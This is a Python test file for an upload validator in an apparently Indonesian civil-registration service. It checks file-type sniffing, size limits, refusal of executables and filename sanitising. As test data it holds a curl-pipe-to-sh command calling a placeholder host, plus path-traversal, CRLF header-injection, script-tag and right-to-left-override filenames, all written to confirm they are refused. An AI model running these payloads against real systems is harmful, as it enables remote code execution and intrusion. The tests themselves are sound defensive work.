"""Uploaded files: recognised by their content, held to the field's size limit and accept list, programs refused
whatever the accept list says, a name's extension agreeing with the content, names kept as names (never paths) and
downloaded with the extension of what the file is, and the status of a refused submission per API.md."""

import pytest

from services.applications.domain.files import (
    EXECUTABLE,
    MIB,
    check_file,
    clean_filename,
    download_name,
    extension_of,
    response_status,
    sniff,
)
from services.catalog.templates import load_templates

PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00\x01\x00\x08\x02\x00\x00\x00"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00"
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00"
TIFF_LE = b"II*\x00\x08\x00\x00\x00"
TIFF_BE = b"MM\x00*\x00\x00\x00\x08"
DOCX = b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00[Content_Types].xml"
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"This program cannot be run"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
LOC = ("body", "files", "ktp_ibu")


def field_of(code: str, key: str) -> dict:
    return next(f.model_dump() for f in load_templates()[code].form.fields if f.key == key)


@pytest.fixture(scope="module")
def ktp():
    """The mother's e-KTP scan of a birth registration: PDF, JPEG or PNG, at most 2 MB."""
    return field_of("akta-kelahiran", "ktp_ibu")


@pytest.fixture(scope="module")
def photo():
    """A job seeker's photo: JPEG or PNG, at most 1 MB."""
    return field_of("kartu-pencari-kerja", "pas_foto")


# ---- sniffing ----

@pytest.mark.parametrize(("head", "kind"), [
    (PDF, "application/pdf"), (JPEG, "image/jpeg"), (PNG, "image/png"), (GIF, "image/gif"),
    (b"GIF87a\x01", "image/gif"), (WEBP, "image/webp"), (TIFF_LE, "image/tiff"), (TIFF_BE, "image/tiff"),
    (DOCX, "application/zip"),
    (b"PK\x05\x06" + b"\x00" * 18, "application/zip"),
])
def test_documents_and_images_are_recognised_by_their_magic_bytes(head, kind):
    assert sniff(head) == kind


def test_a_pdf_header_after_some_leading_bytes_is_still_a_pdf():
    assert sniff(b"\x00" * 500 + PDF) == "application/pdf"
    assert sniff(b" " * 1019 + b"%PDF-") == "application/pdf"


def test_a_pdf_header_beyond_the_first_1024_bytes_is_not_recognised():
    assert sniff(b" " * 1020 + b"%PDF-1.7") is None


@pytest.mark.parametrize("head", [
    PE, ELF, SCRIPT, b"#!/usr/bin/env python3\n", b"\xef\xbb\xbf#!/bin/bash\n",
    b"\xfe\xed\xfa\xce" + b"\x00" * 12, b"\xce\xfa\xed\xfe" + b"\x00" * 12,  # Mach-O 32-bit
    b"\xfe\xed\xfa\xcf" + b"\x00" * 12, b"\xcf\xfa\xed\xfe" + b"\x00" * 12,  # Mach-O 64-bit
])
def test_programs_and_scripts_are_recognised_as_executables(head):
    assert sniff(head) == EXECUTABLE


def test_a_program_carrying_a_pdf_header_is_still_a_program():
    assert sniff(PE + b"\n%PDF-1.4\n") == EXECUTABLE


@pytest.mark.parametrize("head", [b"", b"Nama: Siti\nNIK: ...\n", b"<html><body>ktp</body></html>",
                                  b"RIFF\x00\x00\x00\x00WAVE"])
def test_unknown_content_is_not_recognised(head):
    assert sniff(head) is None


# ---- accepted files ----

@pytest.mark.parametrize("head", [PDF, JPEG, PNG])
def test_a_scan_of_an_accepted_type_within_the_limit_passes(ktp, head):
    assert check_file(ktp, size=850_000, head=head, loc=LOC) == (None, [])


def test_a_file_of_exactly_the_limit_passes(ktp):
    assert check_file(ktp, size=2 * MIB, head=PDF, loc=LOC) == (None, [])


def test_image_jpg_in_the_accept_list_is_an_alias_of_image_jpeg():
    field = {"key": "foto", "label": "Foto", "type": "file", "required": True, "accept": ["image/jpg"],
             "max_size_mb": 1}
    assert check_file(field, size=1000, head=JPEG, loc=("body", "files", "foto")) == (None, [])


def test_a_docx_is_accepted_where_the_field_accepts_word_documents():
    field = {"key": "proposal", "label": "Proposal", "type": "file", "required": True, "max_size_mb": 10,
             "accept": ["application/pdf",
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"]}
    assert check_file(field, size=40_000, head=DOCX, loc=("body", "files", "proposal")) == (None, [])


def test_a_field_without_an_accept_list_takes_any_recognised_document_but_no_program():
    field = {"key": "lampiran", "label": "Lampiran", "type": "file", "required": False, "max_size_mb": 5}
    assert check_file(field, size=1000, head=GIF, loc=("body", "files", "lampiran")) == (None, [])
    assert check_file(field, size=1000, head=ELF, loc=("body", "files", "lampiran"))[0] == 415


# ---- refused files ----

def test_a_file_over_the_limit_is_refused_as_too_large_naming_the_limit(ktp):
    hint, problems = check_file(ktp, size=2 * MIB + 1, head=PDF, loc=LOC)
    assert hint == 413
    assert len(problems) == 1 and problems[0]["loc"] == list(LOC) and "2 MB" in problems[0]["msg"]


def test_a_half_megabyte_limit_is_named_as_such():
    field = {"key": "ttd", "label": "Tanda tangan", "type": "file", "required": True, "accept": ["image/png"],
             "max_size_mb": 0.5}
    hint, problems = check_file(field, size=600_000, head=PNG, loc=("body", "files", "ttd"))
    assert hint == 413 and "0.5 MB" in problems[0]["msg"]


def test_an_executable_renamed_pdf_is_refused_as_unsupported(ktp):
    hint, problems = check_file(ktp, size=120_000, head=PE, loc=LOC)
    assert hint == 415
    assert len(problems) == 1 and problems[0]["loc"] == list(LOC)
    assert "executable" in problems[0]["msg"] and "PDF" in problems[0]["msg"]


@pytest.mark.parametrize("head", [ELF, SCRIPT, b"\xcf\xfa\xed\xfe" + b"\x00" * 12])
def test_a_program_is_refused_even_where_the_accept_list_would_take_it(head):
    field = {"key": "aplikasi", "label": "Aplikasi", "type": "file", "required": True, "max_size_mb": 20,
             "accept": ["application/x-executable", "application/octet-stream", "text/x-shellscript"]}
    hint, problems = check_file(field, size=5000, head=head, loc=("body", "files", "aplikasi"))
    assert hint == 415 and "executable" in problems[0]["msg"]


def test_a_pdf_where_only_photos_are_accepted_names_what_was_found_and_what_is_accepted(photo):
    hint, problems = check_file(photo, size=300_000, head=PDF, loc=("body", "files", "pas_foto"))
    assert hint == 415
    assert problems == [{"loc": ["body", "files", "pas_foto"], "msg": "is a PDF file; accepted: JPEG, PNG"}]


@pytest.mark.parametrize("head", [GIF, WEBP, TIFF_LE, DOCX])
def test_a_recognised_type_outside_the_accept_list_is_unsupported(ktp, head):
    hint, problems = check_file(ktp, size=300_000, head=head, loc=LOC)
    assert hint == 415 and len(problems) == 1


def test_unrecognisable_content_is_unsupported(ktp):
    hint, problems = check_file(ktp, size=300, head=b"just some text renamed ktp.pdf", loc=LOC)
    assert hint == 415 and "accepted: PDF, JPEG, PNG" in problems[0]["msg"]


def test_a_file_both_too_large_and_of_the_wrong_type_reports_both_and_hints_413(photo):
    hint, problems = check_file(photo, size=3 * MIB, head=PE, loc=("body", "files", "pas_foto"))
    assert hint == 413
    assert len(problems) == 2
    assert "1 MB" in problems[0]["msg"] and "executable" in problems[1]["msg"]


@pytest.mark.parametrize(("size", "head"), [(0, b""), (0, PDF), (10, b"")])
def test_an_empty_file_is_a_validation_problem(ktp, size, head):
    hint, problems = check_file(ktp, size=size, head=head, loc=LOC)
    assert hint == 422 and problems == [{"loc": list(LOC), "msg": "is an empty file"}]


# ---- the status of a refused submission ----

def test_only_size_problems_answer_413():
    assert response_status([413], 0) == 413
    assert response_status([413, None, 413], 0) == 413


def test_only_type_problems_answer_415():
    assert response_status([415], 0) == 415
    assert response_status([None, 415, 415], 0) == 415


def test_size_and_type_problems_on_different_files_answer_422():
    assert response_status([413, 415], 0) == 422


def test_a_file_problem_together_with_a_form_problem_answers_422():
    assert response_status([413], 1) == 422
    assert response_status([415, None], 2) == 422


def test_an_empty_file_answers_422():
    assert response_status([422], 0) == 422
    assert response_status([413, 422], 0) == 422


def test_form_problems_alone_answer_422():
    assert response_status([], 3) == 422
    assert response_status([None, None], 1) == 422


def test_one_file_too_large_and_of_the_wrong_type_answers_413(photo):
    hint, problems = check_file(photo, size=3 * MIB, head=PDF, loc=("body", "files", "pas_foto"))
    assert response_status([hint], 0) == 413 and len(problems) == 2


def test_a_whole_birth_registration_upload_with_one_oversized_scan_answers_413(ktp):
    uploads = {"surat_kelahiran": (400_000, PDF), "kk_orang_tua": (900_000, JPEG), "ktp_ibu": (5 * MIB, PNG),
               "ktp_saksi_1": (200_000, PNG), "ktp_saksi_2": (210_000, PDF)}
    hints, problems = [], []
    for key, (size, head) in uploads.items():
        hint, found = check_file(ktp, size=size, head=head, loc=("body", "files", key))
        hints.append(hint)
        problems += found
    assert [p["loc"] for p in problems] == [["body", "files", "ktp_ibu"]]
    assert response_status(hints, 0) == 413


# ---- the name's extension and the content agree ----

@pytest.mark.parametrize(("filename", "head"), [
    ("ktp.pdf", PNG), ("ktp.jpg", PDF), ("ktp.jpeg", PNG), ("ktp.png", JPEG), ("ktp.exe", PDF), ("ktp.html", PDF),
    ("ktp.svg", PNG), ("ktp.pdf.exe", PDF), ("../ktp.png", PDF),
])
def test_a_file_whose_name_says_another_type_than_its_content_is_unsupported(ktp, filename, head):
    hint, problems = check_file(ktp, size=1000, head=head, loc=LOC, filename=filename)
    assert hint == 415 and len(problems) == 1 and problems[0]["loc"] == list(LOC)
    assert problems[0]["msg"].startswith(f"is named {extension_of(clean_filename(filename))} but is a ")


@pytest.mark.parametrize(("filename", "head"), [
    ("ktp.pdf", PDF), ("KTP.PDF", PDF), ("ktp.jpg", JPEG), ("ktp.JPEG", JPEG), ("ktp.jfif", JPEG), ("ktp.png", PNG),
    ("ktp", PNG), ("KK 12.03.2024", PDF), ("ktp.exe.pdf", PDF), (None, PDF),
])
def test_a_file_whose_name_agrees_with_its_content_or_claims_no_type_passes(ktp, filename, head):
    assert check_file(ktp, size=1000, head=head, loc=LOC, filename=filename) == (None, [])


def test_a_word_document_may_be_named_docx_where_archives_are_taken():
    field = {"key": "proposal", "label": "Proposal", "type": "file", "required": True, "max_size_mb": 10,
             "accept": ["application/vnd.openxmlformats-officedocument.wordprocessingml.document"]}
    for name in ("proposal.docx", "proposal.zip"):
        assert check_file(field, size=40_000, head=DOCX, loc=("body", "files", "proposal"), filename=name) == (None, [])
    assert check_file(field, size=40_000, head=DOCX, loc=("body", "files", "proposal"),
                      filename="proposal.pdf")[0] == 415


def test_a_wrong_type_is_one_problem_whatever_the_name_says(ktp):
    hint, problems = check_file(ktp, size=1000, head=PE, loc=LOC, filename="ktp.png")
    assert hint == 415 and len(problems) == 1 and "executable" in problems[0]["msg"]


# ---- names, never paths ----

@pytest.mark.parametrize(("raw", "clean"), [
    ("../../etc/passwd.pdf", "passwd.pdf"), ("..\\..\\x.pdf", "x.pdf"), ("/etc/passwd.pdf", "passwd.pdf"),
    ("C:\\Users\\Siti\\KTP.pdf", "KTP.pdf"), ("kk\x00.pdf", "kk.pdf"),
    ("kk\r\nSet-Cookie: x.pdf", "kkSet-Cookie_ x.pdf"),
    ("\u202ekk\u202efdp.exe", "kkfdp.exe"), (".htaccess", "htaccess"), ("  KK   Siti .pdf ", "KK Siti .pdf"),
    ('kk"<script>.pdf', "kk__script_.pdf"), ("akta-kelahiran-ñ-β-中文.pdf", "akta-kelahiran-ñ-β-中文.pdf"),
    ("Akta Kelahiran Muhammad Farhan Ṣāliḥ.pdf", "Akta Kelahiran Muhammad Farhan Ṣāliḥ.pdf"),
    ("", "berkas"), ("../", "berkas"), ("\x00\x01", "berkas"),
])
def test_a_client_filename_is_kept_as_a_name_only(raw, clean):
    assert clean_filename(raw) == clean


def test_a_long_name_is_shortened_keeping_its_extension():
    name = clean_filename("a" * 300 + ".pdf")
    assert len(name) == 200 and name.endswith(".pdf")


def test_a_name_in_decomposed_unicode_is_composed():
    assert clean_filename("Jose\u0301.pdf") == "Jos\u00e9.pdf"


@pytest.mark.parametrize(("filename", "kind", "shown"), [
    ("akta-kelahiran-ñ-β-中文.pdf", "application/pdf", "akta-kelahiran-ñ-β-中文.pdf"),
    ("KTP.PDF", "application/pdf", "KTP.pdf"),
    ("foto.jpeg", "image/jpeg", "foto.jpg"),
    ("kartu keluarga", "image/png", "kartu keluarga.png"),
    ("KK 12.03.2024", "application/pdf", "KK 12.03.2024.pdf"),
    ("ktp.html", "application/pdf", "ktp.pdf"),  # kept before names were checked: opens as what it is
    ("../../x.exe", "image/png", "x.png"),
    ("proposal.docx", "application/zip", "proposal.docx"),
    ("arsip.pdf", "application/zip", "arsip.zip"),
    ("data", "application/octet-stream", "data.bin"),
    ("", "application/pdf", "berkas.pdf"),
])
def test_a_download_is_named_with_the_extension_of_its_content(filename, kind, shown):
    assert download_name(filename, kind) == shown
